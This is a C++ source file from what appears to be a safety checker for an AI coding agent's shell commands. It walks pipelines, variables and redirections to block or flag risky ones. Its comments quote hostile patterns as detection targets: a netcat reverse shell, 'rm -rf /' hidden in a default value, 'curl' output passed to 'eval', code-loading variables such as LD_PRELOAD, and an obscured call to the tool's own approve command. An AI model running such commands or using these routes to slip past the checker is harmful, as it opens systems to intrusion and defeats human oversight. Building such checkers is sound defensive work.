// The walk: every pipeline, command, substitution, redirection and
// assignment of a parsed script, down to the leaves the rules judge.

#include <fnmatch.h>

#include <algorithm>
#include <utility>

#include "lib/shell/walker.hpp"

namespace kai::shell {

namespace {

constexpr size_t k_max_output = 65536;  // static output followed through pipes
constexpr size_t k_max_leaves = 4096;   // beyond this the command is not understood

// One value for an assignment or redirection target (no field splitting
// there; several fields mean an ambiguous redirect: treated as unknown).
Field single(std::vector<Field> fs, const Word& w, bool join) {
  if (fs.size() == 1) return std::move(fs[0]);
  Field f;
  f.raw = w.raw;
  if (fs.empty()) return f;
  for (size_t i = 0; i < fs.size(); ++i) {
    if (i > 0) f.value += ' ';
    f.value += fs[i].value;
    f.dynamic = f.dynamic || fs[i].dynamic;
    f.computed = f.computed || fs[i].computed;
    f.download = f.download || fs[i].download;
    f.glob = f.glob || fs[i].glob;
  }
  if (!join) f.dynamic = true;
  return f;
}

bool is_digits(std::string_view s) {
  return !s.empty() && std::all_of(s.begin(), s.end(), [](char c) { return c >= '0' && c <= '9'; });
}

// Is `self` called in a pipeline or in the background inside `s`?
bool calls_itself(const Script& s, const std::string& self, bool parallel) {
  for (const Pipeline& p : s.pipelines) {
    bool par = parallel || p.background || p.cmds.size() > 1;
    for (const Command& c : p.cmds) {
      if (c.kind == CmdKind::simple && !c.words.empty() && par && literal(c.words[0]) == self) return true;
      if (c.body && c.kind != CmdKind::function && calls_itself(*c.body, self, par)) return true;
    }
  }
  return false;
}

// The fallback word of `${NAME:-word}` (also `-`, `:=`, `=`), when plain.
std::optional<std::string> default_word(std::string_view raw) {
  if (raw.size() > 2 && raw.front() == '"' && raw.back() == '"') raw = raw.substr(1, raw.size() - 2);
  if (!raw.starts_with("${") || raw.back() != '}') return std::nullopt;
  std::string_view body = raw.substr(2, raw.size() - 3);
  size_t op = body.find_first_of(":-=");
  if (op == std::string_view::npos || op == 0) return std::nullopt;
  size_t word = body[op] == ':' ? op + 2 : op + 1;
  if (word > body.size() || (body[op] == ':' && op + 1 < body.size() && body[op + 1] != '-' && body[op + 1] != '='))
    return std::nullopt;
  std::string_view w = body.substr(word);
  if (w.empty() || w.find_first_of("$`'\"{}() \t") != std::string_view::npos) return std::nullopt;
  return std::string(w);
}

}  // namespace

Walker::Walker(const ShellContext& ctx, Classification& out, int depth) : m_ctx(ctx), m_out(out), m_depth(depth) {}

void Walker::walk(const Parsed& p) {
  Call whole;
  whole.text = "the command";
  if (p.too_deep)
    find(whole, RunVerdict::blocked, "nested more than " + std::to_string(k_max_nesting) + " levels deep");
  for (const std::string& e : p.errors) unknown(whole, "shell syntax: " + e);
  walk_script(p.script);
  if (m_out.leaves.size() > k_max_leaves) unknown(whole, "too many commands to show");
}

// ---- expansion hooks ----

std::optional<ExpandEnv::Value> Walker::param(const std::string& name) {
  auto it = m_st.vars.find(name);
  if (it != m_st.vars.end()) return it->second;
  if (m_st.positional && is_digits(name) && name.size() < 4) {
    size_t i = static_cast<size_t>(std::stoi(name));
    if (i < m_st.positional->size()) return Value{(*m_st.positional)[i], false, false};
    return Value{};
  }
  if (m_st.positional && name == "#") return Value{std::to_string(m_st.positional->size() - 1), false, false};
  // kaicoder gives every run TMPDIR=/tmp, whatever the proposer's was.
  if (name == "TMPDIR") return Value{"/tmp", false, false};
  // the folder the command is in: the root, joined to any `cd`
  if (name == "PWD" && !m_ctx.root.empty() && m_st.cwd && (m_st.cwd->empty() || (*m_st.cwd)[0] != '~'))
    return Value{m_st.cwd->empty()       ? m_ctx.root
                 : (*m_st.cwd)[0] == '/' ? *m_st.cwd
                                         : m_ctx.root + "/" + *m_st.cwd,
                 false, false};
  return std::nullopt;
}

std::optional<std::string> Walker::ifs() {
  auto it = m_st.vars.find("IFS");
  if (it == m_st.vars.end()) return std::string(" \t\n");
  if (it->second.dynamic) return std::nullopt;
  return it->second.text;
}

std::optional<std::vector<std::string>> Walker::positional() {
  if (!m_st.positional) return std::nullopt;
  return std::vector<std::string>(m_st.positional->begin() + 1, m_st.positional->end());
}

ExpandEnv::SubResult Walker::sub(const Script& s, bool want_output) {
  size_t before = m_downloads;
  State saved = m_st;  // a substitution runs in a subshell
  Stdin saved_in = std::exchange(m_stdin, Stdin{});
  std::optional<std::string> out = walk_script(s);
  m_st = std::move(saved);
  m_stdin = saved_in;
  SubResult r;
  r.download = m_downloads > before;
  if (want_output) r.output = std::move(out);
  return r;
}

// ---- the walk ----

std::optional<std::string> Walker::walk_script(const Script& s) {
  std::optional<std::string> all = std::string();
  for (const Pipeline& p : s.pipelines) {
    std::optional<std::string> o = walk_pipeline(p);
    if (p.background || !o || !all || all->size() + o->size() > k_max_output) {
      all.reset();
    } else {
      *all += *o;
    }
  }
  return all;
}

std::optional<std::string> Walker::walk_pipeline(const Pipeline& p) {
  // Each part of a pipe (and a background job) runs in a subshell: its
  // variables and `cd` do not outlive it.
  bool isolated = p.cmds.size() > 1 || p.background;
  Stdin in = m_stdin;
  LeafInfo last;
  bool download = false, kills = false, shell_input = false, network = false;
  for (size_t i = 0; i < p.cmds.size(); ++i) {
    if (i > 0) {
      in = Stdin{};
      in.kind = Stdin::Kind::pipe;
      in.text = last.output;
      in.computed = last.output_computed;
      in.download = download;
    }
    std::optional<State> saved;
    if (isolated) saved = m_st;
    size_t downloads = m_downloads;
    last = walk_command(p.cmds[i], in);
    if (saved) m_st = std::move(*saved);
    // anything that downloaded while this part ran feeds what it prints
    download = download || last.download || m_downloads > downloads;
    network = network || last.download || m_downloads > downloads;
    kills = kills || last.kills;
    shell_input = shell_input || last.shell_input;
  }
  if (kills) check_protected_kill(p);
  // `cat fifo | sh -i | nc host 4444 > fifo`: a shell fed by the network
  if (shell_input && network) {
    Call k;
    k.text = p.cmds.empty() ? std::string() : p.cmds.front().text + " | ...";
    find(k, RunVerdict::blocked, "connects a shell to the network (a shell runs what a network connection sends)");
  }
  return last.output;
}

void Walker::check_protected_kill(const Pipeline& p) {
  for (const Command& c : p.cmds) {
    if (std::optional<std::string> hit = protected_in(m_ctx, c.text)) {
      Call k;
      k.text = c.text;
      find(k, RunVerdict::blocked, "kills a protected process (" + *hit + ")");
      return;
    }
  }
}

LeafInfo Walker::walk_command(const Command& cmd, const Stdin& in) {
  if (cmd.kind == CmdKind::simple) return walk_simple(cmd, in);
  Call c;
  c.text = cmd.text;
  c.in = in;
  c.depth = m_depth;
  for (const Word& w : cmd.words) {  // case subjects and patterns, [[ ]] operands
    if (cmd.kind != CmdKind::for_loop) expand(w, *this);
  }
  redirections(c, cmd);
  LeafInfo info;
  if (cmd.kind == CmdKind::function) {
    walk_function(cmd);
    return info;
  }
  std::optional<State> saved;
  if (cmd.kind == CmdKind::subshell) saved = m_st;
  Stdin saved_in = std::exchange(m_stdin, c.in);
  if (cmd.kind == CmdKind::for_loop) {
    walk_for(cmd);
  } else if (cmd.body) {
    info.output = walk_script(*cmd.body);
  }
  m_stdin = saved_in;
  if (saved) m_st = std::move(*saved);
  return info;
}

void Walker::walk_function(const Command& cmd) {
  if (cmd.body && calls_itself(*cmd.body, cmd.name, false)) {
    Call c;
    c.text = cmd.text;
    find(c, RunVerdict::blocked, "fork bomb: '" + cmd.name + "' runs copies of itself");
  }
  if (!cmd.body) return;
  State saved = m_st;
  walk_script(*cmd.body);
  m_st = std::move(saved);
}

void Walker::walk_for(const Command& cmd) {
  Args words;
  for (const Word& w : cmd.words) {
    std::vector<Field> fs = expand(w, *this);
    words.insert(words.end(), fs.begin(), fs.end());
  }
  // One word (often a glob: `for f in *.c`) is bound as the loop value;
  // several are not followed one by one, so the variable is unknown.
  if (!cmd.name.empty()) {
    if (cmd.has_in && words.size() == 1 && !words[0].dynamic) {
      set_var(cmd.name, words[0]);
    } else {
      forget_var(cmd.name);
    }
  }
  if (cmd.body) walk_script(*cmd.body);
}

LeafInfo Walker::walk_simple(const Command& cmd, const Stdin& in) {
  Call c;
  c.text = cmd.text;
  c.in = in;
  c.depth = m_depth;
  for (const Word& w : cmd.words) {
    std::vector<Field> fs = expand(w, *this);
    for (Field& f : fs) c.argv.push_back(std::move(f));
  }
  if (!c.argv.empty()) c.name = basename_of(c.argv[0].value);
  std::vector<std::pair<std::string, Field>> assigns;
  for (const Assign& a : cmd.assigns)
    assigns.emplace_back(a.name, single(expand(a.value, *this, false), a.value, true));
  redirections(c, cmd);
  Scope scope = c.argv.empty() ? Scope::shell : Scope::command;
  for (const auto& [name, value] : assigns) check_assignment(c, name, value, scope);
  if (c.argv.empty()) {
    if (!cmd.assigns.empty() || !cmd.redirs.empty()) finish_leaf(c);
    return {};
  }
  LeafInfo info = classify(c);
  if (c.stdout_to && !c.stdout_to->dynamic) {
    if (info.download) download(c, c.stdout_to);  // curl URL > x.sh
    wrote(*c.stdout_to, c.stdout_append ? std::nullopt : info.output, info.output_computed);
  }
  return info;
}

void Walker::redirections(Call& c, const Command& cmd) {
  for (const Redir& r : cmd.redirs) {
    if (r.op == RedirOp::heredoc) {
      Field body = r.body ? single(expand(*r.body, *this, false), *r.body, true) : Field{};
      c.in = Stdin{Stdin::Kind::text, std::nullopt, body.computed, body.download};
      if (!body.dynamic) c.in.text = body.value;
      continue;
    }
    Field f = single(expand(r.target, *this, r.op != RedirOp::herestring), r.target, r.op == RedirOp::herestring);
    switch (r.op) {
      case RedirOp::herestring:
        c.in = Stdin{Stdin::Kind::text, std::nullopt, f.computed, f.download};
        if (!f.dynamic) c.in.text = f.value + "\n";
        break;
      case RedirOp::in:
        read(c, f);
        c.in = Stdin{f.procsub ? Stdin::Kind::pipe : Stdin::Kind::file, std::nullopt, false, f.download};
        break;
      case RedirOp::inout:
        read(c, f);
        write(c, f);
        break;
      case RedirOp::dup_in: break;
      case RedirOp::dup_out:
        if (!is_digits(f.value) && f.value != "-") write(c, f);  // bash: >&file
        break;
      default:
        write(c, f);
        if (r.fd == -1 || r.fd == 1) {
          c.stdout_to = f;
          c.stdout_append = r.op == RedirOp::append || r.op == RedirOp::append_err;
        }
    }
  }
}

void Walker::check_assignment(Call& c, const std::string& name, const Field& value, Scope scope) {
  // Variables that make programs load or run code of the agent's choosing.
  static constexpr std::string_view k_exec_vars[] = {
      // clang-format off
      "BASH_ENV", "ENV", "PS4", "PROMPT_COMMAND", "GIT_SSH_COMMAND", "GIT_SSH", "GIT_EXEC_PATH", "GIT_ASKPASS",
      "SSH_ASKPASS", "GIT_PROXY_COMMAND", "GIT_EXTERNAL_DIFF", "LESSOPEN", "LESSCLOSE", "NODE_OPTIONS",
      "PERL5OPT", "PERL5LIB", "RUBYOPT", "PYTHONSTARTUP", "PYTHONINSPECT", "SHELLOPTS", "BASHOPTS",
      "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "GCONV_PATH", "MAVEN_OPTS", "GIT_TEMPLATE_DIR", "CDPATH",
  };
  // clang-format on
  // Variables holding a command line that programs run (`PAGER=cat git log`
  // is fine, `PAGER='sh -c ...'` is judged like the command itself).
  static constexpr std::string_view k_command_vars[] = {
      "PAGER",      "GIT_PAGER",           "MANPAGER",    "SYSTEMD_PAGER", "EDITOR", "VISUAL",
      "GIT_EDITOR", "GIT_SEQUENCE_EDITOR", "SUDO_EDITOR", "BROWSER",
  };
  auto in = [&](const auto& list) { return std::find(std::begin(list), std::end(list), name) != std::end(list); };
  if (in(k_exec_vars) || name.starts_with("LD_") || name.starts_with("DYLD_") || name.starts_with("BASH_FUNC_") ||
      name.starts_with("GIT_CONFIG")) {
    find(c, RunVerdict::blocked, "sets " + name + ", which makes programs load or run other code");
  } else if (in(k_command_vars)) {
    judge(c, name, value);
  } else if (name == "PATH") {
    unknown(c, "changes PATH, so command names may run other programs");
  } else if (name == "IFS" && scope == Scope::shell) {
    unknown(c, "changes IFS, so words split differently than shown");
  }
  if (scope == Scope::shell) set_var(name, value);
}

LeafInfo Walker::classify(Call& c) {
  if (c.depth > m_ctx.max_depth) {
    find(c, RunVerdict::blocked, "wrapped more than " + std::to_string(m_ctx.max_depth) + " levels deep");
    finish_leaf(c);
    return {};
  }
  const Field& a0 = c.argv[0];
  c.name = basename_of(a0.value);
  if (a0.dynamic || a0.synthetic) {
    unknown(c, "the command name is only known at run time ('" + a0.raw + "')");
    // $(which kaicoder) approve 3
    if (a0.raw.find("kaicoder") != std::string::npos)
      for (const Field& f : c.argv)
        if (f.value == "approve" || f.value == "reject" || f.value == "apply" || f.value == "rollback" ||
            f.value == "serve")
          find(c, RunVerdict::blocked, "runs kaicoder's deciding subcommand '" + f.value + "'");
    // ${X:-rm} -rf /: judged as the default it falls back to
    if (std::optional<std::string> def = default_word(a0.raw)) {
      Args alt = c.argv;
      alt[0].value = *def;
      alt[0].dynamic = false;
      alt[0].computed = true;
      return run(c, std::move(alt), c.in);
    }
    finish_leaf(c);
    return {};
  }
  if (a0.computed || a0.from_var || a0.braced || a0.glob)
    unknown(c, "the command name is computed ('" + a0.raw + "' is '" + a0.value + "')");
  if (a0.value.find('/') != std::string::npos && run_file(c, a0, Lang::other)) {  // its #! line decides
    finish_leaf(c);
    return c.info;
  }
  std::string normal = c.name;
  for (size_t i = 1; i < c.argv.size(); ++i) normal += " " + c.argv[i].value;
  for (const std::string& p : m_ctx.extra_blocked) {
    auto match = [&p](std::string_view text) {
      if (has_glob_chars(p)) return ::fnmatch(p.c_str(), std::string(text).c_str(), 0) == 0;
      return text.starts_with(p) && (text.size() == p.size() || text[p.size()] == ' ' || text[p.size()] == '\t');
    };
    if (match(c.text) || match(normal)) find(c, RunVerdict::blocked, "matches the [run] blocked pattern '" + p + "'");
  }
  if (!names_without_reading(c.name)) read_args(c, 1);
  apply_rule(*this, c);
  if (c.wrapper) return c.info;
  if (!prints_only(c.name)) {
    for (size_t i = 1; i < c.argv.size(); ++i) {
      const Field& a = c.argv[i];
      if (a.dynamic || a.synthetic || a.computed) {
        unknown(c, "an argument is only known at run time (" + what_of(a) + ")");
        break;
      }
    }
  }
  // Every ask says why: a program no rule knows is not a routine one.
  if (!c.noted && !known_program(c.name)) find(c, RunVerdict::ask, "unknown program: its effects are unknown");
  finish_leaf(c);
  return c.info;
}

void Walker::finish_leaf(Call& c) {
  if (m_out.leaves.size() > k_max_leaves) return;
  Leaf l;
  for (const Field& f : c.argv) l.argv.push_back(f.value);
  l.text = c.text;
  l.write_targets = c.targets;
  l.understood = c.understood;
  m_out.leaves.push_back(std::move(l));
}

// ---- state ----

void Walker::set_var(const std::string& name, const Field& value) {
  // A value only known at run time is remembered only when it carries a
  // download, so that `x=$(curl ...); eval "$x"` is still caught.
  if (value.dynamic && !value.download) {
    if (name == "IFS") {
      m_st.vars[name] = Value{"", false, false, true, false};
    } else {
      m_st.vars.erase(name);
    }
    return;
  }
  m_st.vars[name] = Value{value.value, value.glob, value.computed, value.dynamic, value.download};
}

void Walker::forget_var(const std::string& name) { m_st.vars.erase(name); }

void Walker::set_cwd(const std::optional<Field>& dir) {
  if (!dir) {
    m_st.cwd = "~";
  } else if (dir->dynamic || dir->synthetic || dir->value == "-") {
    m_st.cwd = std::nullopt;
  } else if (std::optional<std::string> r = resolved(dir->value)) {
    m_st.cwd = normalize(*r);
  } else {
    m_st.cwd = std::nullopt;
  }
}

void Walker::push_dir(const std::optional<Field>& dir) {
  m_st.dirs.push_back(m_st.cwd);
  set_cwd(dir);
}

void Walker::pop_dir() {
  if (m_st.dirs.empty()) {
    m_st.cwd = std::nullopt;
    return;
  }
  m_st.cwd = m_st.dirs.back();
  m_st.dirs.pop_back();
}

}  // namespace kai::shell
